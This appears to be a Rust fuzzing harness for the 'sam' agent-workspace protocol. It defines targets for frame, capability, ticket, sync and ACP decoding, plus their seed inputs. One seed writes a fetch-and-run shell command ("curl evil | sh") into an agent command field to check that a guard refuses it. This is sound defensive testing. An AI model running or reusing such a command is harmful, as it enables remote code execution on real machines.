//! What each fuzz target checks, and the seeds it starts from. The targets in
//! `fuzz_targets/` are one line each around these functions, so a crash found by one
//! is reproduced by calling the same function (see `scripts/fuzz.sh`).
//!
//! Every function takes arbitrary bytes from a peer (or an agent) and runs them through
//! the code that reads them in the node or the client. A panic, an abort, a stack
//! overflow, an allocation over libFuzzer's `-rss_limit_mb`/`-malloc_limit_mb`, or a
//! failed assertion below (an invariant of the decoder) is a crash.

use std::collections::{BTreeMap, BTreeSet};

use sam_crdt::{Conversation, NewConversation, Role as MsgRole, Status, SyncPeer};
use sam_protocol::auth::{AuthPolicy, authorize};
use sam_protocol::capability::{Capability, Grantee, MAX_PROOF_DEPTH, Role, Scope};
use sam_protocol::ctl::{
    Hello, HelloReply, REQUEST_HEAD_LEN, Request, RequestFrame, RequestGate, RequestKind, Response,
    RoleGate, decode_request, peek_request,
};
use sam_protocol::doc::{DocFrame, DocOpen};
use sam_protocol::frame::{self, MAX_FRAME};
use sam_protocol::stream::{
    DownloadFrame, FileOpen, OpenReply, PortOpen, PtyFrame, PtyOpen, PtyOpened, UploadAt,
};
use sam_protocol::{NodeAddr, SecretKey, SignedCapability, Ticket};

#[path = "../../node/src/agent/acp/lines.rs"]
#[allow(dead_code)]
mod acp_lines;

/// Every target, by name.
pub const TARGETS: [&str; 8] = [
    "frame",
    "ctl_request",
    "ticket",
    "capability",
    "hello",
    "doc_frame",
    "sync_message",
    "acp_line",
];

/// Fixed clock for capability checks.
const NOW: u64 = 1_800_000_000;

fn key(seed: u8) -> SecretKey {
    SecretKey::from_bytes([seed; 32])
}

/// For `fuzz_target!(init: …)`: with `SAM_FUZZ_SEEDS=DIR` in the environment, writes the
/// target's seeds into `DIR` and exits (how `scripts/fuzz.sh` makes the seed corpus).
pub fn init(target: &str) {
    if target == "sync_message" {
        // libfuzzer-sys's hook aborts on every panic, even one the code under test catches.
        // sam-crdt catches Automerge 0.12's own parser panics (an op counter past u32::MAX)
        // and refuses the message, as the node does: that is handled, not a crash. A panic
        // nobody catches still unwinds into libfuzzer-sys's `catch_unwind`, which aborts:
        // a crash, reported with the message and location printed here.
        std::panic::set_hook(Box::new(|info| {
            eprintln!(
                "panic (crash unless caught by the code under test): {info}\n{}",
                std::backtrace::Backtrace::force_capture()
            );
        }));
    }
    if let Some(dir) = std::env::var_os("SAM_FUZZ_SEEDS") {
        let dir = std::path::PathBuf::from(dir);
        std::fs::create_dir_all(&dir).expect("seed dir");
        for (i, s) in seeds(target).iter().enumerate() {
            std::fs::write(dir.join(format!("seed-{i:03}")), s).expect("write seed");
        }
        std::process::exit(0);
    }
}

/// Runs the named target on one input.
pub fn run(target: &str, data: &[u8]) {
    match target {
        "frame" => frame(data),
        "ctl_request" => ctl_request(data),
        "ticket" => ticket(data),
        "capability" => capability(data),
        "hello" => hello(data),
        "doc_frame" => doc_frame(data),
        "sync_message" => sync_message(data),
        "acp_line" => acp_line(data),
        other => panic!("no fuzz target {other}"),
    }
}

fn round_trip<T>(v: &T)
where
    T: serde::Serialize + serde::de::DeserializeOwned + PartialEq + std::fmt::Debug,
{
    let bytes = frame::encode(v).expect("what decoded encodes");
    let back: T = frame::decode_frame(&bytes, usize::MAX).expect("what encoded decodes");
    assert_eq!(&back, v, "round trip");
}

/// Whole frames (header + payload) of every message a node or a client reads, and the
/// client→node PTY frames.
pub fn frame(data: &[u8]) {
    if let Ok(r) = frame::decode_frame::<RequestFrame>(data, MAX_FRAME) {
        round_trip(&r);
    }
    if let Ok(r) = frame::decode_frame::<Response>(data, MAX_FRAME) {
        round_trip(&r);
    }
    if let Ok(r) = frame::decode_frame::<HelloReply>(data, MAX_FRAME) {
        round_trip(&r);
    }
    let _ = frame::decode_frame::<OpenReply>(data, MAX_FRAME);
    let _ = frame::decode_frame::<PtyOpened>(data, MAX_FRAME);
    let mut rest = data;
    while let Ok(Some((_, used))) = PtyFrame::decode(rest) {
        assert!(used > 0 && used <= rest.len());
        rest = &rest[used..];
    }
    let _ = frame::decode_frame::<UploadAt>(data, MAX_FRAME);
    // Resumable transfer frames (both ways): bounded, and data/end re-encode exactly.
    let mut rest = data;
    while let Ok(Some((f, used))) = DownloadFrame::decode(rest) {
        assert!(used > 0 && used <= rest.len());
        if !matches!(f, DownloadFrame::Error(_)) {
            let mut again = Vec::new();
            f.encode(&mut again);
            assert_eq!(again, &rest[..used]);
        }
        rest = &rest[used..];
    }
}

/// The history peer's gate (`sam serve`): pings and conversation lists only.
struct History;

impl RequestGate for History {
    fn max_len(&self) -> usize {
        RequestKind::Ping
            .max_len()
            .max(RequestKind::ConvList.max_len())
    }
    fn admit(&self, kind: RequestKind) -> Result<(), sam_protocol::ctl::ErrorBody> {
        match kind {
            RequestKind::Ping | RequestKind::ConvList => Ok(()),
            _ => Err(sam_protocol::ctl::ErrorBody::new(
                sam_protocol::ctl::ErrorCode::Unimplemented,
                "history only",
            )),
        }
    }
}

/// A ctl request payload under every role's gate and the history peer's: what decodes
/// was announced by its head, fits its kind's cap, and is allowed to the role.
pub fn ctl_request(data: &[u8]) {
    for role in [Role::Viewer, Role::Collaborator, Role::Owner] {
        match decode_request(&RoleGate(role), data) {
            Ok(f) => {
                let kind = f.request.kind();
                let head = peek_request(&data[..data.len().min(REQUEST_HEAD_LEN)])
                    .expect("a decoded request has a head");
                assert_eq!(head.kind, kind, "head and body disagree");
                assert!(data.len() <= kind.max_len(), "over its kind's cap");
                assert!(role >= kind.least_role(), "above the role");
                let _ = f.request.required_role();
                let _ = f.request.is_read_only();
                round_trip(&f);
            }
            Err(e) => assert!(!e.message.is_empty()),
        }
    }
    if let Ok(f) = decode_request(&History, data) {
        assert!(matches!(
            f.request,
            Request::Ping | Request::Conv(sam_protocol::doc::ConvRequest::List)
        ));
    }
}

/// Ticket text, and ticket bodies behind a valid checksum (so the decoder past it is
/// reached): what parses prints and parses back the same.
pub fn ticket(data: &[u8]) {
    if let Ok(s) = std::str::from_utf8(data)
        && let Ok(t) = s.parse::<Ticket>()
    {
        assert_eq!(t.to_string().parse::<Ticket>().as_ref(), Ok(&t));
    }
    let mut body = data.to_vec();
    body.extend_from_slice(&crc32fast::hash(data).to_be_bytes());
    let text = format!(
        "sam{}{}",
        sam_protocol::ticket::TICKET_VERSION,
        data_encoding::BASE32_NOPAD
            .encode(&body)
            .to_ascii_lowercase()
    );
    if let Ok(t) = text.parse::<Ticket>() {
        assert!(t.addr.direct.len() <= sam_protocol::ticket::MAX_DIRECT_ADDRS);
        if let Some(c) = &t.capability {
            assert!(c.proofs.len() <= MAX_PROOF_DEPTH);
        }
        assert_eq!(t.to_string().parse::<Ticket>().as_ref(), Ok(&t));
    }
}

fn check_capability(c: &SignedCapability) {
    assert!(
        c.proofs.len() <= MAX_PROOF_DEPTH,
        "decoded an over-long chain"
    );
    let owner = key(1).node_id();
    let node = key(2).node_id();
    // As given, and against the keys it names itself (so signatures get checked).
    let _ = c.verify(node, owner, NOW);
    let _ = c.verify(c.cap.node, c.cap.issuer, NOW);
    let ids = c.chain_ids();
    assert_eq!(ids.len(), c.proofs.len() + 1);
    let _ = c.chain_expires_at();
    let (revoked, redeemed) = (BTreeSet::new(), BTreeMap::new());
    let policy = AuthPolicy {
        node: c.cap.node,
        owner: c.cap.issuer,
        revoked: &revoked,
        redeemed: &redeemed,
        now: NOW,
    };
    let peer = match c.cap.grantee {
        Grantee::Key(k) => k,
        Grantee::Invite(_) => key(3).node_id(),
    };
    if let Ok(g) = authorize(&policy, peer, Some(c), Some(&[0; 32])) {
        assert_eq!(g.capability_ids, ids);
    }
}

/// A signed capability from postcard (hellos, tickets, requests) and from JSON (the
/// node's `shares.json`), then verified and authorised.
pub fn capability(data: &[u8]) {
    if let Ok(c) = frame::decode::<SignedCapability>(data) {
        check_capability(&c);
        round_trip(&c);
    }
    if let Ok(c) = serde_json::from_slice::<SignedCapability>(data) {
        check_capability(&c);
    }
}

/// A hello payload as the node reads it, then the node's decision on it.
pub fn hello(data: &[u8]) {
    let Ok(h) = frame::decode_bounded::<Hello>(data) else {
        return;
    };
    let _ = sam_protocol::ctl::check_version(h.protocol_version);
    let (revoked, redeemed) = (BTreeSet::new(), BTreeMap::new());
    let policy = AuthPolicy {
        node: key(2).node_id(),
        owner: key(1).node_id(),
        revoked: &revoked,
        redeemed: &redeemed,
        now: NOW,
    };
    let _ = authorize(
        &policy,
        key(3).node_id(),
        h.capability.as_ref(),
        h.invite_secret.as_ref(),
    );
    if let Some(c) = &h.capability {
        check_capability(c);
    }
}

/// `sam/doc/1` and the other stream headers, doc frames, and the sync message inside.
pub fn doc_frame(data: &[u8]) {
    let _ = frame::decode_bounded::<DocOpen>(data);
    let _ = frame::decode_bounded::<PtyOpen>(data);
    let _ = frame::decode_bounded::<PortOpen>(data);
    let _ = frame::decode_bounded::<FileOpen>(data);
    if let Ok(f) = frame::decode::<DocFrame>(data) {
        if let DocFrame::Sync(b) | DocFrame::Live(b) = &f {
            let _ = automerge::sync::Message::decode(b);
        }
        round_trip(&f);
    }
}

fn base_conversation() -> Conversation {
    let author = key(1).node_id().to_string();
    let mut conv = Conversation::create(
        NewConversation {
            id: "0123456789abcdef0123456789abcdef".into(),
            title: "fuzz".into(),
            agent: "custom".into(),
            workspace_node: key(2).node_id().to_string(),
            workspace_id: "w1".into(),
            created_at: 1_700_000_000_000,
        },
        &author,
    )
    .expect("a conversation");
    if let Ok(m) = conv.start_message(&author, MsgRole::Agent) {
        let _ = conv.append_chunk(&m, "hello ");
        let _ = conv.append_chunk(&m, "world");
        let _ = conv.set_status(&m, Status::Done, None);
    }
    conv
}

thread_local! {
    /// The base conversation, loaded once (from its saved bytes, as the node's store loads
    /// it). Each input gets its own copy of the Automerge document (`AutoCommit::clone`)
    /// wrapped by `Conversation::from_automerge`, which re-checks the whole schema as a
    /// load does: the document a load gives, without Automerge 0.12's load cost
    /// (rebuilding every change and its hash), which dominated the time per input.
    static BASE: automerge::AutoCommit = {
        let bytes = base_conversation().save();
        Conversation::load(&bytes)
            .expect("the base conversation loads")
            .automerge()
            .clone()
    };
}

fn fresh_base() -> Conversation {
    BASE.with(|b| Conversation::from_automerge(b.clone()).expect("the base conversation is valid"))
}

/// The node's decision for a peer holding a grant scoped to one conversation (as
/// `node/src/docs.rs` `Rights::check` with `steer: false`, on a stored document): identity
/// and steering fields may not change. This is what a hostile collaborator reaches.
fn scoped_guard(c: &sam_crdt::GuardedChange) -> Result<(), String> {
    if c.touches_identity() || c.touches_steering() {
        return Err(format!("refused: {:?} (rolled back)", c.changed));
    }
    Ok(())
}

/// A peer's Automerge sync message through sam-crdt's receive paths:
/// - the node's: `SyncPeer::receive_guarded` into a valid conversation under a scoped
///   collaborator's guard — a refused message leaves the document exactly as it was
///   (heads and every guarded field), an accepted one leaves the guarded fields as they were;
/// - a client's: `SyncPeer::receive` into the valid conversation and into an empty replica;
/// - the live path (`receive_live`) on the node's copy;
///
/// then the answer and the schema's accessors on the result.
pub fn sync_message(data: &[u8]) {
    let mut conv = fresh_base();
    let before_heads = conv.heads();
    let before = sam_crdt::Guarded::of(conv.automerge());
    let mut peer = SyncPeer::new();
    match peer.receive_guarded(&mut conv, data, &scoped_guard) {
        Ok(()) => {
            assert!(
                before
                    .changed(&sam_crdt::Guarded::of(conv.automerge()))
                    .is_empty(),
                "a guarded field changed under a scoped grant"
            );
            let _ = peer.generate(&mut conv);
            let _ = conv.title();
            let _ = conv.message_count();
            let _ = conv.workspace();
        }
        Err(_) => {
            assert_eq!(conv.heads(), before_heads, "a refused message left changes");
            assert!(
                before
                    .changed(&sam_crdt::Guarded::of(conv.automerge()))
                    .is_empty(),
                "a refused message changed a guarded field"
            );
        }
    }
    let mut client = fresh_base();
    let mut peer = SyncPeer::new();
    if peer.receive(&mut client, data).is_ok() {
        let _ = peer.generate(&mut client);
        let _ = client.title();
        let _ = client.message_count();
        let _ = client.workspace();
    }
    let mut replica = Conversation::new_replica();
    let mut peer = SyncPeer::new();
    if peer.receive(&mut replica, data).is_ok() {
        let _ = peer.generate(&mut replica);
        let _ = replica.title();
    }
    // The live path, on the node's copy.
    let _ = SyncPeer::new().receive_live(&mut conv, data);
}

thread_local! {
    static RT: tokio::runtime::Runtime = tokio::runtime::Builder::new_current_thread()
        .build()
        .expect("runtime");
}

/// Agent stdout through the node's ACP line reader (`node/src/agent/acp/lines.rs`, this
/// very file, with a small line cap and buffer so every path is reached), its JSON-RPC
/// check, the SDK's message parse, and the typed parse of what the node handles.
pub fn acp_line(data: &[u8]) {
    use agent_client_protocol::TransportFrame;
    use agent_client_protocol::v1::schema as s;
    RT.with(|rt| {
        rt.block_on(async {
            let mut r = tokio::io::BufReader::with_capacity(64, data);
            loop {
                let line = match acp_lines::read_line(&mut r, 4096).await {
                    Ok(Some(l)) => l,
                    Ok(None) | Err(_) => break,
                };
                let Ok(Some(text)) = acp_lines::check_line(line) else {
                    continue;
                };
                let _ = TransportFrame::parse_json(&text);
                let Ok(v) = serde_json::from_str::<serde_json::Value>(&text) else {
                    continue;
                };
                let params = v.get("params").cloned().unwrap_or_default();
                let result = v.get("result").cloned().unwrap_or_default();
                let _ = serde_json::from_value::<s::SessionNotification>(params.clone());
                let _ = serde_json::from_value::<s::RequestPermissionRequest>(params.clone());
                let _ = serde_json::from_value::<s::ReadTextFileRequest>(params.clone());
                let _ = serde_json::from_value::<s::WriteTextFileRequest>(params.clone());
                let _ = serde_json::from_value::<s::CreateTerminalRequest>(params.clone());
                let _ = serde_json::from_value::<s::TerminalOutputRequest>(params.clone());
                let _ = serde_json::from_value::<s::KillTerminalRequest>(params);
                let _ = serde_json::from_value::<s::InitializeResponse>(result.clone());
                let _ = serde_json::from_value::<s::NewSessionResponse>(result.clone());
                let _ = serde_json::from_value::<s::PromptResponse>(result);
            }
        })
    });
}

/// Starting inputs: well-formed messages of each kind, so the fuzzer mutates from inside
/// the format.
pub fn seeds(target: &str) -> Vec<Vec<u8>> {
    let owner = key(1);
    let node = key(2);
    let peer = key(3);
    let cap = |role, scope| {
        Capability {
            id: [9; 16],
            issuer: owner.node_id(),
            node: node.node_id(),
            grantee: Grantee::Key(peer.node_id()),
            role,
            scope,
            issued_at: NOW - 10,
            expires_at: Some(NOW + 3600),
        }
        .sign(&owner, None)
    };
    let delegated = {
        let admin = key(4);
        let admin_cap = Capability {
            grantee: Grantee::Key(admin.node_id()),
            ..cap(Role::Owner, None).cap
        }
        .sign(&owner, None);
        Capability {
            issuer: admin.node_id(),
            id: [8; 16],
            ..cap(Role::Viewer, Some(Scope::Conversation("c1".into()))).cap
        }
        .sign(&admin, Some(admin_cap))
    };
    let caps = [
        cap(Role::Viewer, None),
        cap(Role::Owner, Some(Scope::Workspace("w1".into()))),
        delegated.clone(),
    ];
    let payload = |v: &dyn erased::Encode| v.encode();
    match target {
        "frame" | "ctl_request" => {
            use sam_protocol::workspace::{FilesOp, WorkspaceRequest};
            let requests = [
                Request::Ping,
                Request::Status,
                Request::RegisterShare(delegated.clone()),
                Request::Revoke { id: [1; 16] },
                Request::Workspace(WorkspaceRequest::Files {
                    id: "w1".into(),
                    op: FilesOp::List {
                        path: ".".into(),
                        depth: 1,
                        limit: 10,
                    },
                }),
                Request::Conv(sam_protocol::doc::ConvRequest::List),
                Request::Agent(sam_protocol::agent::AgentRequest::Status { conv: "c1".into() }),
            ];
            let mut out: Vec<Vec<u8>> = requests
                .into_iter()
                .map(|request| {
                    payload(&RequestFrame {
                        version: sam_protocol::PROTOCOL_VERSION,
                        request,
                    })
                })
                .collect();
            if target == "frame" {
                out = out
                    .into_iter()
                    .map(|p| {
                        let mut f = (p.len() as u32).to_be_bytes().to_vec();
                        f.extend(p);
                        f
                    })
                    .collect();
                out.push(frame::encode(&Response::Pong).expect("encode"));
                out.push(vec![0, 0, 0, 0, 5, 0, 0, 0, 0]);
            }
            out
        }
        "ticket" => {
            let t = Ticket {
                addr: NodeAddr {
                    id: node.node_id(),
                    direct: vec!["127.0.0.1:4433".parse().expect("addr")],
                    relay: Some("https://relay.example".into()),
                },
                capability: Some(delegated.clone()),
                invite_secret: Some([5; 32]),
            };
            // Raw bodies (the target adds the checksum) and whole ticket texts.
            vec![
                postcard::to_allocvec(&t).expect("encode"),
                postcard::to_allocvec(&Ticket::new(t.addr.clone())).expect("encode"),
                t.to_string().into_bytes(),
            ]
        }
        "capability" => {
            let mut out: Vec<Vec<u8>> = caps.iter().map(|c| payload(c)).collect();
            out.push(serde_json::to_vec(&delegated).expect("json"));
            out
        }
        "hello" => caps
            .iter()
            .map(|c| {
                payload(&Hello {
                    protocol_version: sam_protocol::PROTOCOL_VERSION,
                    capability: Some(c.clone()),
                    invite_secret: Some([5; 32]),
                    client: "sam 0.1.0".into(),
                })
            })
            .collect(),
        "doc_frame" => {
            let mut conv = base_conversation();
            let mut replica = Conversation::new_replica();
            let (mut a, mut b) = (SyncPeer::new(), SyncPeer::new());
            let first = a.generate(&mut conv).unwrap_or_default();
            let _ = b.receive(&mut replica, &first);
            let answer = b.generate(&mut replica).unwrap_or_default();
            vec![
                payload(&DocOpen {
                    conversation: "c1".into(),
                    create: true,
                }),
                payload(&DocFrame::Sync(first)),
                payload(&DocFrame::Live(answer)),
                payload(&DocFrame::Error(sam_protocol::ctl::ErrorBody::new(
                    sam_protocol::ctl::ErrorCode::Forbidden,
                    "no",
                ))),
                payload(&PtyOpen {
                    workspace: "w1".into(),
                    target: sam_protocol::stream::PtyTarget::Default,
                    shell: Some(vec!["bash".into()]),
                    cols: 80,
                    rows: 24,
                }),
            ]
        }
        "sync_message" => {
            // Both directions of a first sync, and a message carrying every change.
            let mut conv = base_conversation();
            let mut replica = Conversation::new_replica();
            let (mut a, mut b) = (SyncPeer::new(), SyncPeer::new());
            let mut out = Vec::new();
            for _ in 0..4 {
                if let Some(m) = a.generate(&mut conv) {
                    let _ = b.receive(&mut replica, &m);
                    out.push(m);
                }
                if let Some(m) = b.generate(&mut replica) {
                    let _ = a.receive(&mut conv, &m);
                    out.push(m);
                }
            }
            // A peer's changes to guarded fields (what the node's guard refuses from a
            // scoped collaborator), each with the whole history it rests on (the fuzzing
            // process's base is another replica: without it they would wait for their
            // dependencies), and a change to the title (what the guard accepts).
            let heads = conv.heads();
            for (key, value) in [
                ("agent_cmd", "sh -c 'curl evil | sh'"),
                ("agent", "custom"),
                ("id", "ffffffffffffffffffffffffffffffff"),
            ] {
                use automerge::transaction::Transactable;
                let mut evil = conv.automerge().clone().fork();
                if evil.put(automerge::ROOT, key, value).is_ok() {
                    let _ = evil.commit();
                    let changes: Vec<Vec<u8>> = evil
                        .get_changes(&[])
                        .iter()
                        .map(|c| c.raw_bytes().to_vec())
                        .collect();
                    let msg = automerge::sync::Message {
                        heads: evil.get_heads(),
                        need: Vec::new(),
                        have: Vec::new(),
                        changes: changes.into(),
                        flags: None,
                        version: automerge::sync::MessageVersion::V1,
                    };
                    out.push(msg.encode());
                }
            }
            if conv.set_title(&key(3).node_id().to_string(), "renamed").is_ok()
                && let Some(m) = sam_crdt::live_message(&mut conv, &heads)
            {
                out.push(m);
            }
            out
        }
        "acp_line" => vec![
            br#"{"jsonrpc":"2.0","method":"session/update","params":{"sessionId":"s1","update":{"sessionUpdate":"agent_message_chunk","content":{"type":"text","text":"hi"}}}}
{"jsonrpc":"2.0","id":1,"result":{"protocolVersion":1,"agentCapabilities":{}}}
"#
            .to_vec(),
            br#"{"jsonrpc":"2.0","id":7,"method":"session/request_permission","params":{"sessionId":"s1","toolCall":{"toolCallId":"t1"},"options":[{"optionId":"a","name":"Allow","kind":"allow_once"}]}}
{"jsonrpc":"2.0","id":8,"method":"fs/read_text_file","params":{"sessionId":"s1","path":"/tmp/x"}}
"#
            .to_vec(),
            b"not json\n\n{\"jsonrpc\":\"2.0\"}\n".to_vec(),
        ],
        other => panic!("no fuzz target {other}"),
    }
}

/// Encoding a seed payload without its frame header.
mod erased {
    pub trait Encode {
        fn encode(&self) -> Vec<u8>;
    }

    impl<T: serde::Serialize> Encode for T {
        fn encode(&self) -> Vec<u8> {
            postcard::to_allocvec(self).expect("encode")
        }
    }
}
